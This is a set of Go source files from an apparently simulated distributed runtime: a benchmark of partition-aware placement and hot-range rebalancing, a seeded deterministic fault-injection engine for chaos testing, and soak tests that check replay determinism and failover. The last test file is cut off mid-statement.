// queueing path and the tail collapses. The last two rows are the drill:
// a naive static range assignment melts one shard under the Zipf head, and
// a mid-window load-median split plus live-session migration sheds the
// backlog without changing a single served byte.
type PartitionResult struct {
	// Scenario is "round-robin", "locality", "partition-aware",
	// "hot-range melt", or "melt + rebalance".
	Scenario string `json:"scenario"`
	// Shards, Users, Visits, Skew describe the run: pool width, Zipf key
	// universe, visit count, and Zipf exponent.
	Shards int     `json:"shards"`
	Users  int     `json:"users"`
	Visits int     `json:"visits"`
	Skew   float64 `json:"skew"`
	// Sessions is how many sessions the run opened (churn plus residents).
	Sessions int `json:"sessions"`
	// Served is how many visits succeeded.
	Served int `json:"served"`
	// WarmHits/ColdMisses are the placement memory's landing counts;
	// WarmRatio is hits over touches.
	WarmHits   uint64  `json:"warm_hits"`
	ColdMisses uint64  `json:"cold_misses"`
	WarmRatio  float64 `json:"warm_ratio"`
	// P50/P95/P99 are per-visit virtual latencies (arrival to completion,
	// queueing included) in nanoseconds.
	P50 vclock.Duration `json:"p50_ns"`
	P95 vclock.Duration `json:"p95_ns"`
	P99 vclock.Duration `json:"p99_ns"`
	// CriticalPath is the max-merged virtual time across shard clocks; RPS
	// is visits per virtual second over it.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	RPS          float64         `json:"rps"`
	// Splits counts partition splits; Moved the live sessions the drill
	// migrated; SplitKey where the hot range was cut (0 when no drill ran).
	Splits   uint64 `json:"splits"`
	Moved    int    `json:"moved_sessions"`
	SplitKey uint64 `json:"split_key"`
	// ResultsMatchBaseline reports that this row's served values are
	// byte-equal to the no-drill melt row — the drill's safety check.
	// Always true on rows where the check ran; false means the drill
	// changed an answer, which would fail the experiment.
	ResultsMatchBaseline bool `json:"results_match_baseline"`
}

// Benchmark constants: visits compute over a small slice (computeBytes) of
// a large resident working set (workingSetBytes), so a cold landing — the
// whole set re-faulted — costs several warm services. The visit gap offers
// enough load that cold-inflated service turns into visible queueing.
const (
	partitionWorkingSet = 32 << 10
	partitionCompute    = 2 << 10
	partitionGap        = 6 * time.Microsecond
	partitionResidents  = 64
	partitionHashParts  = 64
)

// packPreferred derives each partition's preferred slot from the observed
// per-partition visit mass, greedily packing the heaviest partitions onto
// the least-loaded shards — the cost-aware placement the partition
// metadata exists to enable.
func packPreferred(meta *partition.Meta, visits []apps.PartitionVisit, shards int) {
	mass := make([]int, len(meta.Parts))
	for _, v := range visits {
		if p := meta.PartitionOf(v.Key); p >= 0 {
			mass[p]++
		}
	}
	order := make([]int, len(mass))
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(i, j int) bool {
		if mass[order[i]] != mass[order[j]] {
			return mass[order[i]] > mass[order[j]]
		}
		return order[i] < order[j]
	})
	load := make([]int, shards)
	for _, id := range order {
		best := 0
		for s := 1; s < shards; s++ {
			if load[s] < load[best] {
				best = s
			}
		}
		meta.Prefer(id, best)
		load[best] += mass[id]
	}
}

// loadMidpoint returns the split key that divides the observed visit mass
// of range [lo, hi) in half: the smallest key m in (lo, hi) with at least
// half the range's visits below it. Returns 0 (caller falls back to the
// key midpoint) when the observed traffic cannot be halved.
func loadMidpoint(visits []apps.PartitionVisit, lo, hi uint64) uint64 {
	counts := map[uint64]int{}
	total := 0
	for _, v := range visits {
		if v.Key >= lo && v.Key < hi {
			counts[v.Key]++
			total++
		}
	}
	if total < 2 {
		return 0
	}
	keys := make([]uint64, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	acc := 0
	for _, k := range keys {
		acc += counts[k]
		if acc*2 >= total {
			at := k + 1
			if at <= lo || at >= hi {
				return 0
			}
			return at
		}
	}
	return 0
}

// hottestPart returns the partition with the most recorded session visits
// (lowest id on ties).
func hottestPart(meta *partition.Meta) int {
	best := 0
	for i, p := range meta.Parts {
		if p.Sessions > meta.Parts[best].Sessions {
			best = i
		}
	}
	return best
}

// MeasurePartition serves the same Zipf-skewed visit stream (visits visits
// over a users-wide key universe at exponent skew) five times over a
// shards-wide pool split across two sockets:
//
//   - "round-robin": the executor's default placement, key-blind;
//   - "locality": the NUMA-aware placer, which sees session ids but not
//     keys, so a returning user still lands on an arbitrary shard;
//   - "partition-aware": hash partition metadata with load-packed preferred
//     slots plus the placement memory, so returning users land warm;
//   - "hot-range melt": a naive static range assignment (partition i on
//     shard i) that funnels the Zipf head onto shard 0, with the hottest
//     keys held by long-lived resident sessions;
//   - "melt + rebalance": the same melt, with a mid-window drill that
//     splits the hot range at its observed load median, migrates the moved
//     range's live residents to the idle socket through the checkpoint
//     log, and revokes the old owner's stale placement traces.
//
// Every row runs the warm/cold accounting with an armed placement memory,
// so warm-hit ratios compare apples to apples; only placement differs.
// Serving is strictly sequential, so every row replays byte-equal, and the
// drill row's served values are verified byte-equal against the no-drill
// melt row.
func MeasurePartition(shards, users, visits int, skew float64) ([]PartitionResult, error) {
	if shards < 2 || shards%2 != 0 {
		return nil, fmt.Errorf("report: partition experiment needs an even shard count >= 2, got %d", shards)
	}
	if users <= 0 || visits <= 0 {
		return nil, fmt.Errorf("report: partition experiment needs users and visits > 0")
	}
	topo := sched.Topology{ShardsPerSocket: shards / 2}
	cost := vclock.Default()
	stream := apps.GenPartitionVisitsSpaced(5, users, visits, skew, partitionGap)
	streamKeys := make([]uint64, len(stream))
	for i, v := range stream {
		streamKeys[i] = v.Key
	}
	hot := workload.Hottest(streamKeys, partitionResidents)

	type runOut struct {
		row     PartitionResult
		results []apps.PartitionResult
	}
	run := func(scenario string, placer sched.Placer, meta *partition.Meta,
		residents []uint64, drillAt int, drill func(*core.Executor, *partition.Meta, *partition.PlacementMemory, *PartitionResult)) (runOut, error) {
		ex, err := core.NewExecutor(shards, core.DirectShards(all.Registry()))
		if err != nil {
			return runOut{}, err
		}
		defer ex.Close()
		mem := partition.NewMemory()
		if placer != nil {
			if pa, ok := placer.(sched.PartitionAware); ok {
				pa.Meta, pa.Memory, pa.Topo = meta, mem, topo
				placer = pa
			}
			sched.New(ex, sched.Policy{MinShards: shards, MaxShards: shards}, placer)
		}
		srv := apps.NewPartitionServer(ex, apps.PartitionConfig{
			Meta: meta, Memory: mem, Cost: cost,
			WorkingSet: partitionWorkingSet, Compute: partitionCompute, Class: "visit",
		})
		if len(residents) > 0 {
			srv.Resident(residents)
		}
		row := PartitionResult{
			Scenario: scenario, Shards: shards, Users: users, Visits: visits, Skew: skew,
			Sessions: len(stream) + len(residents),
		}
		var hook func()
		if drill != nil {
			hook = func() { drill(ex, meta, mem, &row) }
		}
		results := srv.ServeVisits(stream, drillAt, hook)
		srv.FinishResident()
		served := 0
		for _, r := range results {
			if r.Err == nil {
				served++
			}
		}
		m := ex.Metrics().Snapshot()
		crit := ex.CriticalPath()
		row.Served = served
		row.WarmHits, row.ColdMisses = m.WarmHits, m.ColdMisses
		row.WarmRatio = mem.HitRatio()
		row.P50, row.P95, row.P99 = ex.Latencies().P50(), ex.Latencies().P95(), ex.Latencies().P99()
		row.CriticalPath = crit
		row.Splits = m.PartitionSplits
		if crit > 0 {
			row.RPS = float64(len(stream)) / crit.Seconds()
		}
		return runOut{row: row, results: results}, nil
	}

	// Frontier rows: same stream, pure churn, only placement differs.
	rr, err := run("round-robin", nil, nil, nil, 0, nil)
	if err != nil {
		return nil, err
	}
	loc, err := run("locality", sched.Locality{Topo: topo}, nil, nil, 0, nil)
	if err != nil {
		return nil, err
	}
	hashMeta := partition.New(partition.Hash, partitionHashParts, uint64(users))
	packPreferred(hashMeta, stream, shards)
	aware, err := run("partition-aware", sched.PartitionAware{}, hashMeta, nil, 0, nil)
	if err != nil {
		return nil, err
	}

	// Melt arc: a naive static range assignment (partition i preferred onto
	// shard i) funnels the Zipf head — almost all of the stream — onto
	// shard 0. The spill guard is opened wide so the misconfiguration
	// stands (the guard catching it is the defense, not the experiment).
	meltMeta := func() *partition.Meta {
		m := partition.New(partition.Range, shards, uint64(users))
		for i := 0; i < shards; i++ {
			m.Prefer(i, i)
		}
		return m
	}
	meltPlacer := sched.PartitionAware{SpillThreshold: 4 * partitionResidents}
	melt, err := run("hot-range melt", meltPlacer, meltMeta(), hot, 0, nil)
	if err != nil {
		return nil, err
	}
	drillAt := visits / 2
	drill := func(ex *core.Executor, meta *partition.Meta, mem *partition.PlacementMemory, row *PartitionResult) {
		hp := hottestPart(meta)
		p := meta.Parts[hp]
		at := loadMidpoint(stream[:drillAt], p.Lo, p.Hi)
		dest := shards / 2 // first slot of the idle socket
		row.SplitKey = at
		_, moved, derr := sched.RebalancePartitionAt(ex, meta, mem, topo, cost,
			hp, at, dest, partitionWorkingSet)
		if derr != nil {
			err = derr
			return
		}
		row.Moved = moved
	}
	rebal, err2 := run("melt + rebalance", meltPlacer, meltMeta(), hot, drillAt, drill)
	if err2 != nil {
		return nil, err2
	}
	if err != nil {
		return nil, err
	}

	// The drill is control-plane only: served values must be byte-equal to
	// the no-drill melt run.
	match := len(melt.results) == len(rebal.results)
	if match {
		for i := range melt.results {
			if melt.results[i].Key != rebal.results[i].Key ||
				melt.results[i].Value != rebal.results[i].Value {
				match = false
				break
			}
		}
	}
	melt.row.ResultsMatchBaseline = match
	rebal.row.ResultsMatchBaseline = match
	if !match {
		return nil, fmt.Errorf("report: rebalance drill changed served results")
	}

	return []PartitionResult{rr.row, loc.row, aware.row, melt.row, rebal.row}, nil
}

// TablePartition renders the partition experiment — 8 shards across 2
// sockets, 12k visits over 30k users at Zipf 1.1 — and optionally writes
// the rows as JSON to jsonPath (the BENCH_partition.json artifact).
func TablePartition(jsonPath string) (string, error) {
	results, err := MeasurePartition(8, 30000, 12000, 1.1)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Partition-aware placement: Zipf visit stream, 8 shards / 2 sockets (virtual time)",
		Header: []string{"Scenario", "Served", "Warm", "Cold", "Warm%", "p50", "p95", "p99", "RPS", "Moved", "Split@"},
	}
	for _, r := range results {
		t.Add(r.Scenario, fmt.Sprintf("%d/%d", r.Served, r.Visits),
			d(int(r.WarmHits)), d(int(r.ColdMisses)),
			fmt.Sprintf("%.1f%%", r.WarmRatio*100),
			r.P50.String(), r.P95.String(), r.P99.String(), f1(r.RPS),
			d(r.Moved), d(int(r.SplitKey)))
	}
	t.Notes = append(t.Notes,
		"Every visit computes over a 2 KiB slice of a 32 KiB resident working set; a cold landing re-faults the whole set, several warm services' worth.",
		"All rows run the same armed placement memory; only placement differs, so warm ratios compare apples to apples.",
		"Locality sees session ids, not keys: one-shot churn leaves its open-session load signal blind, so it concentrates on one shard per socket.",
		"The melt rows statically prefer range partition i onto shard i; the Zipf head funnels onto shard 0 until the drill splits the hot range at its observed load median.",
		"The drill migrates the moved range's live resident sessions through the checkpoint log and revokes stale placement traces; served values are byte-equal with or without it.")
	if jsonPath != "" {
		if err := WritePartitionJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}
	return t.String(), nil
}

// WritePartitionJSON writes partition experiment results as indented JSON.
func WritePartitionJSON(path string, results []PartitionResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
