// Package chaos is a seeded, fully deterministic fault-injection engine for
// the simulated FreePart stack. One Engine threads into three layers:
//
//   - kernel: process crashes mid-syscall, transient EINTR/EAGAIN failures
//     on I/O calls, and device stalls (kernel.FaultInjector);
//   - ipc: message drop, duplication, payload corruption, and slow delivery
//     charged to the virtual clock (ipc.Injector);
//   - mem: spurious faults on page accesses inside agent address spaces
//     (mem.AccessHook, installed by the core runtime).
//
// Determinism: all decisions come from one rand.Rand seeded by Plan.Seed,
// consulted in the order the (single-threaded, synchronous-RPC) pipeline
// reaches each site. Non-targeted processes — anything without the
// "agent:" name prefix, i.e. the host — are skipped without consuming
// randomness, so the host is never injected and the decision stream does
// not depend on host activity. Every fired fault is appended to a log;
// equal seeds produce byte-equal logs, making every run replayable.
package chaos

import (
	"fmt"
	"math/rand"
	"strings"
	"sync"

	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/vclock"
)

// Event is one fired fault in the injection log.
type Event struct {
	// N is the 1-based position in the log.
	N uint64
	// At is the virtual time of injection (0 if no clock is bound).
	At vclock.Duration
	// Site is the layer: "kernel", "ipc", "mem", "supervisor", or
	// "degrade" (the gray-failure service-time channel).
	Site string
	// Kind names the fault: "crash", "transient", "stall", "drop", "dup",
	// "corrupt", "fault", "degrade" — or, on the gray-failure site, "slow",
	// "gray-stall", "brownout".
	Kind string
	// Detail identifies the victim (process name, syscall, seq, address).
	Detail string
}

// String renders the event as one log line.
func (e Event) String() string {
	return fmt.Sprintf("#%d @%v %s/%s %s", e.N, e.At, e.Site, e.Kind, e.Detail)
}

// Engine makes all injection decisions for one run. It implements
// kernel.FaultInjector and ipc.Injector; core installs its MemFault as a
// mem.AccessHook on agent spaces. Safe for concurrent use, though
// determinism is only guaranteed for the single-pipeline call pattern.
type Engine struct {
	plan Plan

	mu        sync.Mutex
	rng       *rand.Rand
	clock     *vclock.Clock
	counters  *metrics.Counters
	syscalls  uint64 // targeted syscall consultations (drives CrashEveryN)
	transient int    // consecutive transients at the current site
	events    []Event
}

// New builds an engine from a plan. Bind attaches the clock and counters.
func New(plan Plan) *Engine {
	return &Engine{
		plan: plan,
		rng:  rand.New(rand.NewSource(plan.Seed)),
	}
}

// Bind attaches the virtual clock (for event timestamps) and the metrics
// counters (for InjectedFaults). Either may be nil. Called by core.New.
//
// One engine serves exactly one kernel clock: event timestamps and the
// PRNG's consultation order are only meaningful against a single clock, so
// rebinding to a different clock would silently corrupt the injection log's
// ordering (the bug multi-runtime sharing used to hit). Rebinding the same
// clock is idempotent and allowed; binding a second, different clock panics.
// Multi-shard runs build one engine per shard from Plan.ForShard instead.
func (e *Engine) Bind(clock *vclock.Clock, counters *metrics.Counters) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.clock != nil && clock != nil && e.clock != clock {
		panic("chaos: engine already bound to a different kernel clock; one engine per shard — build per-shard engines with Plan.ForShard")
	}
	e.clock = clock
	e.counters = counters
}

// Plan returns the engine's configuration.
func (e *Engine) Plan() Plan { return e.plan }

// Events returns a copy of the injection log.
func (e *Engine) Events() []Event {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]Event, len(e.events))
	copy(out, e.events)
	return out
}

// Injected returns how many faults have fired.
func (e *Engine) Injected() uint64 {
	e.mu.Lock()
	defer e.mu.Unlock()
	return uint64(len(e.events))
}

// Log renders the full injection log, one event per line.
func (e *Engine) Log() string {
	var b strings.Builder
	for _, ev := range e.Events() {
		b.WriteString(ev.String())
		b.WriteByte('\n')
	}
	return b.String()
}

// Summary returns per-kind fault counts as a stable one-line string.
func (e *Engine) Summary() string {
	counts := map[string]int{}
	for _, ev := range e.Events() {
		counts[ev.Site+"/"+ev.Kind]++
	}
	if len(counts) == 0 {
		return "no faults injected"
	}
	keys := make([]string, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	// Stable order without importing sort at the call sites.
	for i := 1; i < len(keys); i++ {
		for j := i; j > 0 && keys[j] < keys[j-1]; j-- {
			keys[j], keys[j-1] = keys[j-1], keys[j]
		}
	}
	parts := make([]string, len(keys))
	for i, k := range keys {
		parts[i] = fmt.Sprintf("%s=%d", k, counts[k])
	}
	return strings.Join(parts, " ")
}

// Note appends an externally-observed event (e.g. the supervisor recording
// a degradation) to the log so the replay trace is complete.
func (e *Engine) Note(site, kind, detail string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.record(site, kind, detail)
}

// record appends an event under e.mu.
func (e *Engine) record(site, kind, detail string) {
	at := vclock.Duration(0)
	if e.clock != nil {
		at = e.clock.Now()
	}
	e.events = append(e.events, Event{
		N: uint64(len(e.events) + 1), At: at,
		Site: site, Kind: kind, Detail: detail,
	})
	if e.counters != nil {
		e.counters.AddInjectedFault()
	}
}

// targets reports whether a process name is fair game.
func (e *Engine) targets(name string) bool {
	return strings.HasPrefix(name, e.plan.targetPrefix())
}

// transientEligible lists the interruptible I/O syscalls that can fail
// EINTR/EAGAIN-style.
func transientEligible(call kernel.Sysno) bool {
	switch call {
	case kernel.SysRead, kernel.SysWrite, kernel.SysSendto, kernel.SysRecvfrom, kernel.SysSelect:
		return true
	}
	return false
}

// stallEligible lists the device-facing syscalls that can answer late.
func stallEligible(call kernel.Sysno) bool {
	return call == kernel.SysIoctl || call == kernel.SysSelect
}

// OnSyscall implements kernel.FaultInjector.
func (e *Engine) OnSyscall(p *kernel.Process, call kernel.Sysno) kernel.SyscallFault {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.targets(p.Name()) {
		return kernel.SyscallFault{}
	}
	e.syscalls++
	kp := e.plan.Kernel
	if kp.TransientProb > 0 && transientEligible(call) &&
		e.transient < e.plan.maxTransient() && e.rng.Float64() < kp.TransientProb {
		e.transient++
		e.record("kernel", "transient", fmt.Sprintf("%s %s EINTR", p.Name(), call))
		return kernel.SyscallFault{Transient: true, Reason: "EINTR"}
	}
	e.transient = 0
	if kp.CrashEveryN > 0 && e.syscalls%kp.CrashEveryN == 0 {
		e.record("kernel", "crash", fmt.Sprintf("%s %s (every %d)", p.Name(), call, kp.CrashEveryN))
		return kernel.SyscallFault{Crash: true, Reason: fmt.Sprintf("chaos: scheduled crash in %s", call)}
	}
	if kp.CrashProb > 0 && e.rng.Float64() < kp.CrashProb {
		e.record("kernel", "crash", fmt.Sprintf("%s %s", p.Name(), call))
		return kernel.SyscallFault{Crash: true, Reason: fmt.Sprintf("chaos: fault in %s", call)}
	}
	if kp.StallProb > 0 && stallEligible(call) && e.rng.Float64() < kp.StallProb {
		e.record("kernel", "stall", fmt.Sprintf("%s %s +%v", p.Name(), call, kp.Stall))
		return kernel.SyscallFault{Stall: kp.Stall}
	}
	return kernel.SyscallFault{}
}

// RequestFault implements ipc.Injector for host→agent requests.
func (e *Engine) RequestFault(seq uint64, payload []byte) ipc.MessageFault {
	return e.messageFault("req", seq)
}

// ResponseFault implements ipc.Injector for agent→host responses.
func (e *Engine) ResponseFault(seq uint64, payload []byte) ipc.MessageFault {
	return e.messageFault("resp", seq)
}

func (e *Engine) messageFault(dir string, seq uint64) ipc.MessageFault {
	e.mu.Lock()
	defer e.mu.Unlock()
	ip := e.plan.IPC
	var f ipc.MessageFault
	if ip.DropProb > 0 && e.rng.Float64() < ip.DropProb {
		f.Drop = true
		e.record("ipc", "drop", fmt.Sprintf("%s seq %d", dir, seq))
		return f
	}
	if ip.CorruptProb > 0 && e.rng.Float64() < ip.CorruptProb {
		f.Corrupt = true
		e.record("ipc", "corrupt", fmt.Sprintf("%s seq %d", dir, seq))
		return f
	}
	if dir == "req" && ip.DupProb > 0 && e.rng.Float64() < ip.DupProb {
		f.Duplicate = true
		e.record("ipc", "dup", fmt.Sprintf("%s seq %d", dir, seq))
	}
	if ip.StallProb > 0 && e.rng.Float64() < ip.StallProb {
		f.Stall = ip.Stall
		e.record("ipc", "stall", fmt.Sprintf("%s seq %d +%v", dir, seq, ip.Stall))
	}
	return f
}

// ServiceDegradation returns the extra virtual time the gray-failure
// channel charges for one invocation that started at shard time start and
// ran for service. The serving executor calls it once per completed
// invocation and advances the shard clock by the return value, so a
// degraded shard is alive but slow — the failure mode the crash channels
// cannot express.
//
// Determinism: the persistent and brownout components are pure functions
// of (start, service); only an intermittent-stall draw consumes the
// engine's PRNG, and only when StallProb > 0. A zero profile returns 0
// without taking randomness or logging, so plans without a Degrade profile
// leave the decision stream — and therefore every existing replay — byte
// identical.
func (e *Engine) ServiceDegradation(start, service vclock.Duration) vclock.Duration {
	d := e.plan.Degrade
	if !d.active() || service <= 0 {
		return 0
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	var extra vclock.Duration
	if f := d.factorAt(start); f > 1 {
		extra = vclock.Duration(float64(service) * (f - 1))
		kind := "slow"
		if d.BrownoutSlope > 0 && start > d.BrownoutAfter {
			kind = "brownout"
		}
		e.record("degrade", kind, fmt.Sprintf("service %v x%.2f +%v", service, f, extra))
	}
	if d.StallProb > 0 && e.rng.Float64() < d.StallProb {
		extra += d.Stall
		e.record("degrade", "gray-stall", fmt.Sprintf("+%v", d.Stall))
	}
	return extra
}

// MemFault decides whether a checked memory access inside procName's space
// suffers a spurious fault. Only write accesses are eligible: in this
// runtime writes into agent spaces happen exclusively inside agent-side
// execution, so the resulting crash always lands on a partition, never on
// a host-side read path.
func (e *Engine) MemFault(procName string, addr mem.Addr, kind mem.AccessKind) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	mp := e.plan.Mem
	if mp.FaultProb <= 0 || kind != mem.AccessWrite || !e.targets(procName) {
		return nil
	}
	if mp.Page != 0 && addr.PageIndex() != mp.Page {
		return nil
	}
	if e.rng.Float64() < mp.FaultProb {
		e.record("mem", "fault", fmt.Sprintf("%s %v at %#x", procName, kind, uint64(addr)))
		return fmt.Errorf("chaos: spurious %v fault at %#x in %s", kind, uint64(addr), procName)
	}
	return nil
}
