package chaos_test

import (
	"fmt"
	"reflect"
	"testing"
	"time"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/vclock"
)

// graySoakRun serves a detection stream over 4 shards that mix every
// failure mode at once: shard crashShard runs the crash loop (every checked
// agent-space write faults, gen 0 only), shard slowShard is alive but
// persistently slow plus intermittent stalls (gen 0 only — its replacement
// models a healthy machine), and every shard sees background-intensity
// faults derived from the root seed. The full gray layer is armed: a
// suspicion scorer with a fixed service-time baseline, and hedging with a
// delay a few baselines out. Serving is strictly sequential so hedge races
// and live drain decisions are pure functions of the request list.
func graySoakRun(t *testing.T, seed int64, crashShard, slowShard int) ([]apps.DetectionResult, *core.Executor) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	root := chaos.Scaled(seed, 0.03)
	crash := root
	crash.Mem.FaultProb = 1
	planOf := func(id, gen int) chaos.Plan {
		switch {
		case id == crashShard && gen == 0:
			return crash.ForShard(id)
		case id == slowShard && gen == 0:
			return root.ForShard(id).WithDegrade(chaos.DegradePlan{
				Factor:    8,
				StallProb: 0.2,
				Stall:     vclock.Duration(2 * time.Millisecond),
			})
		}
		return root.ForShard(id)
	}
	ex, err := core.NewExecutor(4, core.ChaosShards(reg, cat, crashLoopSoakConfig(), planOf))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})
	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		t.Fatal(err)
	}
	ex.SetGray(core.GrayPolicy{Ratio: 3, Baseline: graySoakBaseline(t)})
	ex.SetHedge(core.HedgePolicy{Delay: 4 * graySoakBaseline(t)})
	return srv.ServeSeq(apps.GenDetectionRequests(19, 48)), ex
}

var soakBaseline vclock.Duration

// graySoakBaseline calibrates the scorer's service-time reference once per
// test binary, the same way the gray experiment does: a fault-free run with
// an inert scorer (ratio beyond any healthy deviation) harvests per-shard
// EWMAs, and the largest one is the baseline. No oracle knowledge of which
// shard the soak will slow down.
func graySoakBaseline(t *testing.T) vclock.Duration {
	t.Helper()
	if soakBaseline > 0 {
		return soakBaseline
	}
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(4, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	defer ex.Close()
	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		t.Fatal(err)
	}
	ex.SetGray(core.GrayPolicy{Ratio: 1e9, Baseline: 1})
	srv.ServeSeq(apps.GenDetectionRequests(19, 48))
	for _, g := range ex.GrayScores() {
		if g.EWMA > soakBaseline {
			soakBaseline = g.EWMA
		}
	}
	if soakBaseline <= 0 {
		t.Fatal("gray soak calibration produced no baseline")
	}
	return soakBaseline
}

// TestGraySoak is the gray-failure soak: a crash-looping shard and a
// slow-but-alive shard in the same pool, background faults everywhere,
// suspicion scoring and hedging both armed. For every seed (a) outputs must
// match the fault-free baseline — hedge races and latency drains change
// when and where work runs, never what it computes; (b) both the crash
// shard and the slow shard must actually drain, the latter through the
// latency scorer (GrayDrains ≥ 1) since its calls all complete; (c)
// replaying the same seed must reproduce the run byte-for-byte: per-shard
// injection logs across every incarnation, failover event logs, suspicion
// scores, hedge counters, and the full latency distribution. Run under
// -race in CI (make graysoak / make check).
func TestGraySoak(t *testing.T) {
	const crashShard, slowShard = 1, 2

	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	bex, err := core.NewExecutor(4, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(bex.Close)
	bsrv, err := apps.ProvisionDetection(bex)
	if err != nil {
		t.Fatal(err)
	}
	baseline := bsrv.ServeSeq(apps.GenDetectionRequests(19, 48))
	for i, r := range baseline {
		if r.Err != nil {
			t.Fatalf("baseline request %d: %v", i, r.Err)
		}
	}

	seeds := []int64{13, 37}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed%02d", seed), func(t *testing.T) {
			results, ex := graySoakRun(t, seed, crashShard, slowShard)
			for i, r := range results {
				if r.Err != nil {
					t.Fatalf("request %d: %v", i, r.Err)
				}
				if r.Objects != baseline[i].Objects {
					t.Fatalf("request %d objects = %d, want baseline %d", i, r.Objects, baseline[i].Objects)
				}
			}
			m := ex.Metrics().Snapshot()
			if m.GrayDrains == 0 {
				t.Fatal("slow shard never drained by the latency scorer; the soak exercised nothing gray")
			}
			if m.ShardDrains < 2 {
				t.Fatalf("ShardDrains = %d, want both the crash shard and the slow shard gone", m.ShardDrains)
			}

			// Replay: the whole run must reproduce byte-for-byte.
			replay, rex := graySoakRun(t, seed, crashShard, slowShard)
			if !reflect.DeepEqual(replay, results) {
				t.Fatal("replay outputs diverged")
			}
			for id := 0; id < 4; id++ {
				if a, b := incarnationLogs(ex, id), incarnationLogs(rex, id); !reflect.DeepEqual(a, b) {
					t.Fatalf("shard %d injection logs diverged across replays:\n%v\n%v", id, a, b)
				}
				if a, b := ex.FailoverEventsFor(id), rex.FailoverEventsFor(id); !reflect.DeepEqual(a, b) {
					t.Fatalf("shard %d failover events diverged across replays:\n%v\n%v", id, a, b)
				}
			}
			if a, b := ex.GrayScores(), rex.GrayScores(); !reflect.DeepEqual(a, b) {
				t.Fatalf("suspicion scores diverged across replays:\n%v\n%v", a, b)
			}
			rm := rex.Metrics().Snapshot()
			if !reflect.DeepEqual(m, rm) {
				t.Fatalf("metrics diverged across replays:\n%+v\n%+v", m, rm)
			}
			if a, b := ex.Latencies().String(), rex.Latencies().String(); a != b {
				t.Fatalf("latency distributions diverged across replays:\n%s\n%s", a, b)
			}
		})
	}
}
