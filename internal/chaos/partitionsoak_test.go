package chaos_test

import (
	"fmt"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/partition"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
	"freepart.dev/freepart/internal/workload"
)

// partitionSoakRun serves a Zipf-keyed detection stream over 4 shards with
// the full partition plane armed — range metadata with static preferred
// slots, placement memory, warm/cold pricing, and a PartitionAware placer —
// while shard crashShard runs the crash loop (gen 0 only) and every shard
// sees background-intensity faults. Halfway through, the control plane
// splits the Zipf head's partition and rebalances it onto shard 3,
// migrating the range's live keyed sessions through the checkpoint log.
// Serving is strictly sequential, so the entire run — chaos draws,
// failover, placement, the drill — is a pure function of (seed,
// crashShard).
func partitionSoakRun(t *testing.T, seed int64, crashShard int) ([]apps.DetectionResult, *core.Executor, []byte, []byte) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	root := chaos.Scaled(seed, 0.03)
	crash := root
	crash.Mem.FaultProb = 1
	planOf := func(id, gen int) chaos.Plan {
		if id == crashShard && gen == 0 {
			return crash.ForShard(id)
		}
		return root.ForShard(id)
	}
	ex, err := core.NewExecutor(4, core.ChaosShards(reg, cat, crashLoopSoakConfig(), planOf))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})

	const users = 24
	meta := partition.New(partition.Range, 4, users)
	for i := 0; i < 4; i++ {
		meta.Prefer(i, i)
	}
	mem := partition.NewMemory()
	topo := sched.Topology{ShardsPerSocket: 2}
	sched.New(ex, sched.Policy{MinShards: 4, MaxShards: 4},
		sched.PartitionAware{Meta: meta, Memory: mem, Topo: topo})

	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		t.Fatal(err)
	}
	cfg := apps.PartitionConfig{
		Meta: meta, Memory: mem, Cost: vclock.Default(),
		WorkingSet: 16 << 10, Class: "detect",
	}
	reqs := apps.GenDetectionRequests(19, 48)
	keys := workload.ZipfPopulation{Users: users, S: 1.25, Seed: seed}.Keys(len(reqs))

	results := srv.ServeSeqKeyed(reqs[:24], keys[:24], cfg)
	// Mid-window drill: split the Zipf head's partition and move the upper
	// half (live sessions included) onto shard 3.
	if _, _, err := sched.RebalancePartition(ex, meta, mem, topo, vclock.Default(),
		0, 3, 16<<10); err != nil {
